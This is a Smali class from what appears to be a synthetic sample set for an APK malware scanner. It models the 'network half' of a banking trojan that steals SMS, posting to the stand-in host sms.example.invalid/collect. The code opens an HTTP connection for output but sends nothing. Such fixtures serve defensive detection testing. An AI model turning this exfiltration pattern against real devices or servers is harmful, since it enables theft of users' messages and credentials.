.class public Lorg/apkscan/sample/banker/Uploader;
.super Ljava/lang/Object;
.source "Uploader.java"

# Posts to https://sms.example.invalid/ (.invalid never resolves): the network half of MAL-SMS-001.

.method public static send(Ljava/lang/String;Ljava/lang/String;)V
    .registers 4
    new-instance v0, Ljava/net/URL;
    const-string v1, "https://sms.example.invalid/collect"
    invoke-direct {v0, v1}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v0}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v0
    check-cast v0, Ljava/net/HttpURLConnection;
    const/4 v1, 0x1
    invoke-virtual {v0, v1}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
    return-void
.end method
